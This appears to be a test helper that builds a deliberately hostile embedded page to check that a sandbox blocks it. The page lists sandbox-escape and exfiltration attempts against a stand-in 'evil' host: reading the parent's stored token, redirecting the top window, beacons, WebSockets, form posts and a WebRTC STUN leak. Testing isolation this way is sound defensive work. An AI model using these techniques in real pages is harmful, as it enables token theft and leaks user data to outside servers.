import type { Frame } from "playwright-core";
import { expect } from "vitest";

interface Target {
  /** A server that must not get any request. */
  url: string;
  stun: string;
  /** Whether it tries to take over the whole window. Without a page around it, the window is its own. */
  leaves: boolean;
}

/**
 * A page that tries everything that a guide must not do, and records the result of each attempt in `window.outcome`.
 */
export function hostileGuide({ url: evil, stun, leaves }: Target): Record<string, string> {
  return {
    "index.html": `<!doctype html><meta charset="utf-8"><title>Guide</title>
<link rel="stylesheet" href="own.css">
<link rel="stylesheet" href="${evil}/style">
<link rel="prefetch" href="${evil}/prefetch">
<link rel="preload" as="script" href="${evil}/preload">
<link rel="manifest" href="${evil}/manifest">
<script src="${evil}/script"></script>
<p id="own">Hold the button</p>
<img id="picture" src="own.svg" alt="">
<img src="${evil}/image" alt="">
<div style="background:url(${evil}/background)"></div>
<iframe src="${evil}/frame"></iframe>
<iframe id="console" src="/dashboard"></iframe>
<object data="${evil}/object"></object>
<embed src="${evil}/embed">
<video src="${evil}/video"></video>
<form id="form" action="${evil}/form" method="post"><input name="a" value="b"></form>
<a id="top" target="_top" href="${evil}/top">top</a>
<a id="new" target="_blank" href="${evil}/new">new</a>
<a id="ping" ping="${evil}/ping" href="#here">ping</a>
<script type="module" src="own.mjs"></script>
<script src="attempts.js"></script>`,
    "own.css": "#own { color: rgb(1, 2, 3); }",
    "own.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="7" height="5"/>',
    "own.mjs": 'import { word } from "./more.mjs"; window.imported = word;',
    "more.mjs": 'export const word = "loaded";',
    "attempts.js": `
const evil = ${JSON.stringify(evil)};
const attempts = {
  parentDocument: () => parent.document.title,
  parentToken: () => parent.localStorage.getItem("thingwright.token"),
  parentHref: () => parent.location.href,
  topLocation: () => { top.location = evil + "/top-location"; return "asked"; },
  localStorage: () => localStorage.setItem("a", "b"),
  sessionStorage: () => sessionStorage.setItem("a", "b"),
  cookie: () => document.cookie = "a=b",
  indexedDB: () => new Promise((done, fail) => {
    const open = indexedDB.open("a");
    open.onsuccess = done;
    open.onerror = fail;
  }),
  caches: () => caches.open("a"),
  call: () => fetch("/api/v1/user/current").then((answer) => answer.text()),
  ownFetch: () => fetch("own.css").then((answer) => answer.text()),
  evilFetch: () => fetch(evil + "/fetch", { mode: "no-cors" }),
  request: () => new Promise((done, fail) => {
    const request = new XMLHttpRequest();
    request.open("GET", evil + "/request");
    request.onload = done;
    request.onerror = fail;
    request.send();
  }),
  beacon: () => { navigator.sendBeacon(evil + "/beacon", "x"); throw new Error("does not say what came of it"); },
  events: () => new Promise((done, fail) => {
    const source = new EventSource(evil + "/events");
    source.onopen = done;
    source.onerror = fail;
  }),
  socket: () => new Promise((done, fail) => {
    const socket = new WebSocket(location.origin.replace("http", "ws") + "/api/v1/live");
    socket.onopen = done;
    socket.onerror = fail;
  }),
  evilSocket: () => new Promise((done, fail) => {
    const socket = new WebSocket(evil.replace("http", "ws") + "/socket");
    socket.onopen = done;
    socket.onerror = fail;
  }),
  serviceWorker: () => navigator.serviceWorker.register("own.mjs"),
  worker: () => new Promise((done, fail) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"], { type: "text/javascript" })));
    worker.onmessage = done;
    worker.onerror = fail;
  }),
  popup: () => { if (!open(evil + "/popup")) throw new Error("refused"); return "opened"; },
  evaluated: () => eval("1 + 1"),
  written: () => {
    const image = new Image();
    image.src = evil + "/written";
    return image.decode();
  },
  frame: () => document.getElementById("console").contentWindow.document.title,
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
  position: () => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail)),
  channel: () => {
    const channel = new BroadcastChannel("thingwright");
    channel.postMessage("hello");
    throw new Error("nobody hears it");
  },
  submitted: () => { document.getElementById("form").submit(); throw new Error("nothing happened"); },
  clicked: () => {
    for (const id of ["top", "new", "ping"]) document.getElementById(id).click();
    throw new Error("nothing happened");
  },
  peer: async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: ${JSON.stringify(stun)} }] });
    peer.createDataChannel("a");
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((done) => setTimeout(done, 1000));
    throw new Error("asked " + peer.iceGatheringState);
  },
};
(async () => {
  const outcome = {};
  if (!${leaves}) for (const name of ["parentDocument", "parentToken", "parentHref", "topLocation", "clicked"]) delete attempts[name];
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      const limit = new Promise((_, fail) => setTimeout(() => fail(new Error("no answer")), 3000));
      outcome[name] = "DONE " + (await Promise.race([Promise.resolve().then(attempt), limit]));
    } catch (error) {
      outcome[name] = "refused";
    }
  }
  window.outcome = outcome;
})();`,
  };
}

/** The same as a panel, which also talks to its host, and records its messages and the answers in `window.heard`. */
export function hostilePanel(target: Target): Record<string, string> {
  const { "index.html": page = "", ...others } = hostileGuide(target);
  return {
    ...others,
    "index.html": page.replace("<script src", '<script src="bridge.js"></script>\n<script src'),
    "bridge.js": `
window.heard = [];
addEventListener("message", ({ data, ports }) => {
  if (data.thingwright !== "welcome") return;
  window.port = ports[0];
  port.onmessage = ({ data }) => heard.push(data);
  port.postMessage(JSON.stringify({ type: "started" }));
});
parent.postMessage({ thingwright: "hello", bridge: 1 }, "*");`,
  };
}

/** Waits for the attempts. @returns those that succeeded */
export async function outcomeOf(frame: Frame): Promise<string[]> {
  let outcome: Record<string, string> | undefined;
  await expect
    .poll(
      async () => {
        outcome = await frame.evaluate(() => (globalThis as { outcome?: Record<string, string> }).outcome);
        return outcome !== undefined;
      },
      { timeout: 60_000 },
    )
    .toBe(true);
  return Object.entries(outcome ?? {})
    .filter(([, what]) => what !== "refused")
    .map(([name, what]) => `${name}: ${what}`);
}
